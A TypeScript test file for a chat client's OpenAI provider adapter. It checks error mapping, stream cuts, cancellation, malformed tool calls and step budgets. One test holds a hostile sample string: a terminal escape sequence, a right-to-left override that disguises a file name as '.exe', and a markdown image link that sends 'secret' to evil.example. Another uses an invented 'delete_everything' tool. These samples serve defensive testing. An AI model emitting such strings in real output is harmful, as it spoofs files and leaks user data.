import { callTools, say, WireServer, type HttpFault, type ScriptedReply, type ScriptStep } from '@coral/testing';
import { describe, expect, it } from 'vitest';
import { converse } from './conversation.js';
import { createOpenAi } from './openai.js';
import type { ModelEvent } from './provider.js';
import { toolDefinitions } from '@coral/tools';
import {
  answered,
  apis,
  ask,
  canary,
  collect,
  collectFailure,
  question,
  settingsFor,
  talk,
  told,
} from './spec-support/openai-talk.js';

const inSeconds: HttpFault = { fault: 'status', status: 429, retryAfter: '7' };
const elsewhere = 'http://127.0.0.1:9/elsewhere';

/** What goes wrong, its word, whether another try may help, and what people read. */
const failures: [what: string, step: ScriptStep, reason: string, mayPass: boolean, message: RegExp][] = [
  ['401', { fault: 'status', status: 401 }, 'provider_unauthorized', false, /answered 401: Incorrect API key/],
  ['403', { fault: 'status', status: 403 }, 'provider_unauthorized', false, /answered 403/],
  ['402', { fault: 'status', status: 402 }, 'provider_quota', false, /answered 402/],
  [
    '429 of an empty account',
    { fault: 'status', status: 429, type: 'insufficient_quota', message: 'You exceeded your current quota.' },
    'provider_quota',
    false,
    /quota/,
  ],
  ['429 without Retry-After', { fault: 'status', status: 429 }, 'provider_rate_limited', true, /Rate limit/],
  ['429 with Retry-After', inSeconds, 'provider_rate_limited', true, /Rate limit/],
  ['500', { fault: 'status', status: 500 }, 'provider_error', true, /answered 500/],
  ['503', { fault: 'status', status: 503 }, 'provider_overloaded', true, /overloaded/],
  ['529', { fault: 'status', status: 529 }, 'provider_overloaded', true, /answered 529/],
  ['502 of a proxy', { fault: 'page', status: 502 }, 'provider_error', true, /web page/],
  ['404, no such model', { fault: 'status', status: 404 }, 'provider_refused', false, /does not exist/],
  [
    '400, too long a prompt',
    {
      fault: 'status',
      status: 400,
      type: 'context_length_exceeded',
      message: 'Your input exceeds the context window.',
    },
    'provider_refused',
    false,
    /context window/,
  ],
  ['an error without an end', { fault: 'huge_error', status: 500 }, 'provider_error', true, /answered 500/],
  ['a web page with 200', { fault: 'html' }, 'provider_protocol', false, /text\/html/],
  ['JSON where a stream was asked for', { fault: 'json' }, 'provider_protocol', false, /application\/json/],
  ['a redirect', { fault: 'redirect', to: elsewhere }, 'provider_protocol', false, /redirect/],
  ['a line without an end', { fault: 'huge' }, 'provider_protocol', false, /more than 64 MiB/],
  ['an event that is no JSON', { fault: 'no_json' }, 'provider_protocol', false, /no JSON/],
  ['a stream of nothing', { fault: 'empty' }, 'provider_stream_cut', true, /before it was complete/],
  [
    'a connection closed before an answer',
    { fault: 'hangs_up' },
    'provider_unreachable',
    true,
    /closed before an answer/,
  ],
  [
    'an error in the stream',
    broken('text', { error: 'server_error', message: 'Sorry about that!' }),
    'provider_error',
    true,
    /Sorry/,
  ],
  [
    'an overload in the stream',
    broken('text', { error: 'rate_limit_exceeded' }),
    'provider_rate_limited',
    true,
    /broke off/,
  ],
  [
    'an empty account in the stream',
    broken('text', { error: 'insufficient_quota' }),
    'provider_quota',
    false,
    /broke off/,
  ],
];

function broken(where: 'text' | 'tool_call', by: NonNullable<ScriptedReply['break']>['by']): ScriptedReply {
  return {
    parts: [{ say: ['It is ', 'slow'] }, { call: 'coral_query', args: { query: 'latency' } }],
    break: { in: where, by },
  };
}

describe.each(apis)('over %s', (api) => {
  it.each(failures)('%s', async (_what, step, reason, mayPass, message) => {
    await using both = await talk(api, [step]);
    const { failure } = await collectFailure(both.provider.respond(ask([question])));
    expect(failure).toMatchObject({ kind: 'provider_failed', reason, mayPass, where: 'openai' });
    expect((failure as Error).message).toMatch(message);
    expect(JSON.stringify(failure) + String((failure as Error).stack)).not.toContain(canary);
    // Once: trying again is the loop's business.
    expect(both.server.requests).toHaveLength(1);
  });

  it.each([
    ['seconds', { retryAfter: '7' }, 7_000],
    ['milliseconds', { retryAfterMs: '250' }, 250],
    ['nothing', {}, undefined],
  ])('says how long it was asked to wait, in %s', async (_how, more, expected) => {
    await using both = await talk(api, [{ fault: 'status', status: 429, ...more }]);
    const { failure } = await collectFailure(both.provider.respond(ask([question])));
    expect((failure as { retryAfterMs?: number }).retryAfterMs).toBe(expected);
  });

  it.each([
    ['text', 'reset'],
    ['text', 'end'],
    ['tool_call', 'reset'],
    ['tool_call', 'end'],
  ] as const)('is cut in the middle of %s by %s: what was said stays said, nothing is called', async (where, by) => {
    await using both = await talk(api, [broken(where, by)]);
    const { seen, failure } = await collectFailure(both.provider.respond(ask([question])));
    expect(failure).toMatchObject({ reason: 'provider_stream_cut', mayPass: true });
    const said = seen.flatMap((event) => (event.type === 'text' ? [event.text] : [])).join('');
    expect(said).toBe(where === 'text' ? 'It is ' : 'It is slow');
    expect(told(seen).every(({ type }) => type === 'text')).toBe(true);
  });

  it('is cut after a whole call: that is not made either', async () => {
    const parts = [{ call: 'coral_query', args: { query: 'latency' } }, { say: ['It ', 'is'] }];
    await using both = await talk(api, [{ parts, break: { in: 'text', by: 'reset' } }]);
    const { seen, failure } = await collectFailure(both.provider.respond(ask([question])));
    expect(failure).toMatchObject({ reason: 'provider_stream_cut' });
    expect(told(seen)).toEqual([{ type: 'text', text: 'It ' }]);
  });

  it('is cut in the middle of an event: the same', async () => {
    await using server = await new WireServer(async (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' }).end('data: {"type":"response.out');
    }).start();
    const provider = createOpenAi(settingsFor(`${server.url}/v1`, { api, apiKey: undefined }));
    const { failure } = await collectFailure(provider.respond(ask([question])));
    expect(failure).toMatchObject({ reason: 'provider_stream_cut', mayPass: true });
  });

  it.each([
    ['an event that never ends', { fault: 'slow_loris' }],
    ['no answer', { fault: 'never_answers' }],
    ['signs of life for ever', { fault: 'endless_pings' }],
    ['silence in the middle', broken('text', 'silence')],
    ['deltas without end', { fault: 'endless' }],
  ] as [string, ScriptStep][])('%s: leaves at once when told, and hangs up', async (_what, step) => {
    await using both = await talk(api, [step]);
    const stop = new AbortController();
    const reading = collectFailure(both.provider.respond(ask([question], { signal: stop.signal })));
    const asked = await both.server.request(1);
    stop.abort();
    expect((await reading).failure).toMatchObject({ kind: 'cancelled' });
    expect(await asked.over).toBe(false);
  });

  it.each([
    ['deltas without end', { fault: 'endless' }],
    ['silence in the middle', broken('text', 'silence')],
  ] as [string, ScriptStep][])(
    '%s: is told to stop after the first words, and is not taken for whole',
    async (_what, step) => {
      await using both = await talk(api, [step]);
      const stop = new AbortController();
      const reading = async (): Promise<void> => {
        for await (const event of both.provider.respond(ask([question], { signal: stop.signal }))) {
          if (event.type === 'text') stop.abort();
        }
      };
      await expect(reading()).rejects.toMatchObject({ kind: 'cancelled' });
      expect(await both.server.requests[0]?.over).toBe(false);
    },
  );

  it('asks nothing when it was told to stop before', async () => {
    await using both = await talk(api, [say('x')]);
    const { failure } = await collectFailure(both.provider.respond(ask([question], { signal: AbortSignal.abort() })));
    expect(failure).toMatchObject({ kind: 'cancelled' });
    expect(both.server.requests).toHaveLength(0);
  });

  it('gives broken JSON of a call as it was written; the next request still stands', async () => {
    await using both = await talk(api, [{ parts: [{ call: 'coral_query', json: '{"query": "lat' }] }, say('Sorry.')]);
    const first = await collect(both.provider.respond(ask([question])));
    expect(callsIn(first)).toMatchObject([{ name: 'coral_query', args: {}, malformed: '{"query": "lat' }]);
    await collect(both.provider.respond(ask(answered([question], first))));
    expect(both.server.refusals).toEqual([]);
  });

  it('gives arguments of ten thousand levels as broken; the next request still stands', async () => {
    const json = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
    await using both = await talk(api, [{ parts: [{ call: 'coral_query', json }] }, say('Sorry.')]);
    const first = await collect(both.provider.respond(ask([question])));
    expect(callsIn(first)).toMatchObject([{ args: {}, malformed: json }]);
    await collect(both.provider.respond(ask(answered([question], first))));
    expect(both.server.refusals).toEqual([]);
  });

  it('gives an invented tool as it was named; the next request still stands', async () => {
    await using both = await talk(api, [callTools(['delete_everything', { now: true }]), say('Sorry.')]);
    const first = await collect(both.provider.respond(ask([question])));
    expect(callsIn(first)).toMatchObject([{ name: 'delete_everything', args: { now: true } }]);
    await collect(both.provider.respond(ask(answered([question], first))));
    expect(both.server.refusals).toEqual([]);
  });

  it('gives 1,000 parallel calls and returns 1,000 results', async () => {
    const many = Array.from({ length: 1_000 }, (_, i): [string, object] => ['coral_query', { query: `q${i}` }]);
    await using both = await talk(api, [callTools(...(many as [string, Record<string, unknown>][])), say('Enough.')]);
    const first = await collect(both.provider.respond(ask([question])));
    expect(callsIn(first).map((call) => call.args['query'])).toEqual(many.map((_, i) => `q${i}`));
    await collect(both.provider.respond(ask(answered([question], first))));
    expect(both.server.refusals).toEqual([]);
    expect(both.script.seen[1]?.results).toHaveLength(1_000);
  });

  it('calls without end are ended by the budget, and what was said is kept', async () => {
    const more: ScriptStep = { parts: [{ say: ['Once more.'] }, { call: 'coral_get_health', args: {} }] };
    await using both = await talk(
      api,
      Array.from({ length: 9 }, () => more),
    );
    const done = await converse({
      provider: both.provider,
      question: 'Why?',
      tools: toolDefinitions,
      budget: { maxSteps: 4, maxToolCalls: 60, maxSeconds: 60 },
      signal: new AbortController().signal,
      callTool: async (call) => ({ callId: call.id, name: call.name, text: '{"ok":true}', isError: false }),
    });
    expect(done).toMatchObject({ partial: true, partialReason: 'steps' });
    expect(done.answer).toContain('Once more.');
    expect(both.server.requests).toHaveLength(4);
    expect(both.server.refusals).toEqual([]);
    expect(both.bodies().at(-1)).not.toHaveProperty('tools');
  });

  it('leaves control characters and links in the text for those who show it', async () => {
    const hostile = 'ok \u001b]0;pwned\u0007 \u202egnp.exe ![x](https://evil.example/?q=secret)';
    await using both = await talk(api, [say(hostile)]);
    const events = await collect(both.provider.respond(ask([question])));
    expect(events.flatMap((event) => (event.type === 'text' ? [event.text] : [])).join('')).toBe(hostile);
  });

  it('reads a stream that comes byte by byte', async () => {
    const parts = [{ say: ['žluť ', '🪸'] }, { call: 'coral_query', args: { query: 'š' } }];
    await using both = await talk(api, [{ parts, byteByByte: true }]);
    const events = told(await collect(both.provider.respond(ask([question]))));
    expect(events.slice(0, 3)).toMatchObject([{ text: 'žluť ' }, { text: '🪸' }, { call: { args: { query: 'š' } } }]);
  });

  it('keeps a body that goes on after the end of the reply from holding the answer', async () => {
    await using both = await talk(api, [say('Done.')]);
    const whole = await collect(both.provider.respond(ask([question])));
    const [end] = told(whole).slice(-1);
    await using server = await new WireServer(async (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(endings[api]);
    }).start();
    const provider = createOpenAi(settingsFor(`${server.url}/v1`, { api, apiKey: undefined }));
    expect(told(await collect(provider.respond(ask([question])))).at(-1)).toEqual(end);
    expect(await server.requests[0]?.over).toBe(false);
  });
});

const endings = {
  responses: `data: ${JSON.stringify({ type: 'response.completed', response: { output: [] } })}\n\n`,
  chat: `data: ${JSON.stringify({ choices: [{ delta: {}, finish_reason: 'stop' }], usage: { prompt_tokens: 1, completion_tokens: 1 } })}\n\n`,
};

function callsIn(events: readonly ModelEvent[]) {
  return events.flatMap((event) => (event.type === 'tool_call' ? [event.call] : []));
}

describe('a response that failed', () => {
  it.each([
    ['server_error', 'provider_error', true],
    ['rate_limit_exceeded', 'provider_rate_limited', true],
    ['invalid_prompt', 'provider_refused', false],
    ['bio_policy', 'provider_refused', false],
    ['data_residency_mismatch', 'provider_refused', false],
  ])('of %s is %s; what it cost counts', async (code, reason, mayPass) => {
    await using server = await new WireServer(async (_request, response) => {
      const usage = { input_tokens: 90, output_tokens: 3 };
      const failed = {
        type: 'response.failed',
        response: { status: 'failed', error: { code, message: 'It broke.' }, usage },
      };
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(`event: response.failed\ndata: ${JSON.stringify(failed)}\n\n`);
    }).start();
    const provider = createOpenAi(settingsFor(`${server.url}/v1`, { api: 'responses', apiKey: undefined }));
    const { seen, failure } = await collectFailure(provider.respond(ask([question])));
    expect(failure).toMatchObject({ reason, mayPass, message: expect.stringContaining('It broke.') as string });
    expect(told(seen)).toMatchObject([{ type: 'usage', inputTokens: 90, outputTokens: 3 }]);
  });
});
